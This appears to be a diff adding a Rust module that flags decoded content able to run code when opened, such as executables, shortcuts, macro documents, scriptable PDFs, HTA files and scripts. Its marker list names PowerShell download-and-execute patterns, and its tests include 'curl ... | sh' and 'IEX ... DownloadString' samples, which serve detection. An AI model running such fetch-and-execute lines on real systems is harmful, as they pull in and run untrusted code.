@@ -0,0 +1,256 @@
+//! Risk classification of decoded content
+//!
+//! Decoded payloads are often the next stage of something malicious.
+//! Content that can run code when opened — executables, scripts, Office
+//! documents with macros, PDFs with JavaScript, HTML applications and
+//! shortcuts — is flagged so it is not handed to the system opener unnoticed.
+
+use super::charset;
+use super::executable::{self, ExecutableSummary};
+use serde::Serialize;
+
+/// Bytes of text searched for script markers
+const SCRIPT_SCAN_LIMIT: usize = 64 * 1024;
+
+/// OLE compound file (legacy Office documents)
+const OLE_MAGIC: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
+
+/// Windows shell link header size and CLSID
+const LNK_MAGIC: &[u8] =
+    b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46";
+
+/// Lower-case markers of Windows scripts, with the language they indicate
+const SCRIPT_MARKERS: &[(&str, &str)] = &[
+    ("@echo off", "batch"),
+    ("invoke-expression", "PowerShell"),
+    ("-encodedcommand", "PowerShell"),
+    (".downloadstring(", "PowerShell"),
+    ("wscript.shell", "Windows Script Host"),
+    ("createobject(", "Windows Script Host"),
+];
+
+/// How dangerous it is to open content
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum RiskLevel {
+    /// Runs code only after a further step (enabling macros, running a script)
+    Medium,
+    /// Runs code as soon as it is opened
+    High,
+}
+
+/// Kind of risky content
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum RiskKind {
+    Executable,
+    Script,
+    MacroDocument,
+    PdfJavaScript,
+    HtmlApplication,
+    Shortcut,
+}
+
+impl RiskKind {
+    /// Human-readable description
+    pub fn description(&self) -> &'static str {
+        match self {
+            RiskKind::Executable => "executable",
+            RiskKind::Script => "script",
+            RiskKind::MacroDocument => "Office document with macros",
+            RiskKind::PdfJavaScript => "PDF with active content",
+            RiskKind::HtmlApplication => "HTML application",
+            RiskKind::Shortcut => "Windows shortcut",
+        }
+    }
+
+    /// Level of risk for this kind of content
+    pub fn level(&self) -> RiskLevel {
+        match self {
+            RiskKind::Executable | RiskKind::HtmlApplication | RiskKind::Shortcut => {
+                RiskLevel::High
+            }
+            RiskKind::Script | RiskKind::MacroDocument | RiskKind::PdfJavaScript => {
+                RiskLevel::Medium
+            }
+        }
+    }
+}
+
+/// Why content is risky to open
+#[derive(Debug, Clone, Serialize)]
+pub struct Risk {
+    pub kind: RiskKind,
+    pub level: RiskLevel,
+    /// What was found, e.g. "PE executable for x86-64"
+    pub reason: String,
+    /// Header summary of ELF, PE and Mach-O binaries
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub executable: Option<ExecutableSummary>,
+}
+
+impl Risk {
+    fn new(kind: RiskKind, reason: impl Into<String>) -> Self {
+        Self {
+            kind,
+            level: kind.level(),
+            reason: reason.into(),
+            executable: None,
+        }
+    }
+
+    /// Warning for the decode result
+    pub fn warning(&self) -> String {
+        format!(
+            "Decoded content is risky to open: {} ({})",
+            self.kind.description(),
+            self.reason
+        )
+    }
+}
+
+/// Classify content that can run code when opened, or `None` if it is
+/// not known to
+pub fn classify(data: &[u8]) -> Option<Risk> {
+    if let Some(summary) = executable::parse(data) {
+        let reason = format!(
+            "{} {} for {}",
+            summary.format.name(),
+            summary.kind,
+            summary.architecture
+        );
+        return Some(Risk {
+            executable: Some(summary),
+            ..Risk::new(RiskKind::Executable, reason)
+        });
+    }
+    if data.starts_with(b"MZ") {
+        return Some(Risk::new(RiskKind::Executable, "DOS executable"));
+    }
+    if data.starts_with(LNK_MAGIC) {
+        return Some(Risk::new(RiskKind::Shortcut, "shell link"));
+    }
+    if data.starts_with(OLE_MAGIC) {
+        if contains(data, &utf16le("_VBA_PROJECT")) || contains(data, &utf16le("Macros")) {
+            return Some(Risk::new(RiskKind::MacroDocument, "VBA project stream"));
+        }
+        return None;
+    }
+    if data.starts_with(b"PK\x03\x04") {
+        if contains(data, b"vbaProject.bin") {
+            return Some(Risk::new(RiskKind::MacroDocument, "vbaProject.bin member"));
+        }
+        if contains(data, b"xl/macrosheets/") {
+            return Some(Risk::new(RiskKind::MacroDocument, "Excel 4.0 macro sheet"));
+        }
+        return None;
+    }
+    if data.starts_with(b"%PDF") {
+        let actions: Vec<&str> = ["/JavaScript", "/JS", "/Launch", "/OpenAction"]
+            .into_iter()
+            .filter(|action| pdf_has_name(data, action))
+            .collect();
+        // An /OpenAction alone usually just sets the initial view
+        if actions.iter().any(|&a| a != "/OpenAction") {
+            return Some(Risk::new(RiskKind::PdfJavaScript, actions.join(", ")));
+        }
+        return None;
+    }
+    classify_text(data)
+}
+
+/// Scripts and HTML applications
+fn classify_text(data: &[u8]) -> Option<Risk> {
+    let (detected, text) = charset::decode_text(data)?;
+    let head: String = text.chars().take(SCRIPT_SCAN_LIMIT).collect();
+
+    if let Some(shebang) = head.lines().next().filter(|l| l.starts_with("#!")) {
+        return Some(Risk::new(
+            RiskKind::Script,
+            format!("interpreter {}", shebang[2..].trim()),
+        ));
+    }
+    let lower = head.to_lowercase();
+    if lower.contains("<hta:application") {
+        return Some(Risk::new(RiskKind::HtmlApplication, "HTA:APPLICATION tag"));
+    }
+    SCRIPT_MARKERS
+        .iter()
+        .find(|(marker, _)| lower.contains(marker))
+        .map(|(marker, language)| {
+            Risk::new(
+                RiskKind::Script,
+                format!("{} ({} in {} text)", language, marker, detected.name()),
+            )
+        })
+}
+
+/// Whether a PDF uses a name, not just a longer name starting with it
+fn pdf_has_name(data: &[u8], name: &str) -> bool {
+    let name = name.as_bytes();
+    data.windows(name.len() + 1)
+        .any(|w| w.starts_with(name) && !w[name.len()].is_ascii_alphanumeric())
+}
+
+fn utf16le(s: &str) -> Vec<u8> {
+    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
+fn contains(data: &[u8], needle: &[u8]) -> bool {
+    data.windows(needle.len()).any(|w| w == needle)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_documents() {
+        let pdf = b"%PDF-1.7\n1 0 obj << /OpenAction 2 0 R >>\n2 0 obj << /S /JavaScript /JS (app.alert(1)) >>";
+        let risk = classify(pdf).unwrap();
+        assert_eq!(risk.kind, RiskKind::PdfJavaScript);
+        assert_eq!(risk.level, RiskLevel::Medium);
+        assert_eq!(risk.reason, "/JavaScript, /JS, /OpenAction");
+        assert!(classify(b"%PDF-1.4\n<< /OpenAction [3 0 R /Fit] /JSFake 1 >>").is_none());
+
+        let mut docm = b"PK\x03\x04".to_vec();
+        docm.extend_from_slice(b"\x14\x00\x00\x00word/vbaProject.bin");
+        assert_eq!(classify(&docm).unwrap().kind, RiskKind::MacroDocument);
+        assert!(classify(b"PK\x03\x04\x14\x00word/document.xml").is_none());
+
+        let mut doc = OLE_MAGIC.to_vec();
+        doc.extend(utf16le("_VBA_PROJECT"));
+        assert_eq!(classify(&doc).unwrap().kind, RiskKind::MacroDocument);
+    }
+
+    #[test]
+    fn test_scripts() {
+        let risk = classify(b"#!/bin/sh\ncurl http://example.com | sh\n").unwrap();
+        assert_eq!(risk.kind, RiskKind::Script);
+        assert_eq!(risk.reason, "interpreter /bin/sh");
+
+        let risk = classify(b"$c = New-Object Net.WebClient; IEX $c.DownloadString('x')").unwrap();
+        assert!(risk.reason.starts_with("PowerShell"));
+
+        let hta = b"<html><HTA:APPLICATION ID=\"x\"><script>...</script></html>";
+        let risk = classify(hta).unwrap();
+        assert_eq!(risk.kind, RiskKind::HtmlApplication);
+        assert_eq!(risk.level, RiskLevel::High);
+
+        assert!(classify(b"Just some notes about the weekend.").is_none());
+    }
+
+    #[test]
+    fn test_binaries() {
+        let mut lnk = LNK_MAGIC.to_vec();
+        lnk.extend(vec![0u8; 56]);
+        assert_eq!(classify(&lnk).unwrap().kind, RiskKind::Shortcut);
+
+        let risk = classify(b"MZ\x90\x00\x03\x00\x00\x00").unwrap();
+        assert_eq!(risk.kind, RiskKind::Executable);
+        assert_eq!(risk.reason, "DOS executable");
+        assert!(risk.executable.is_none());
+
+        assert!(classify(b"\x89PNG\r\n\x1a\n\x00\x00").is_none());
+    }
+}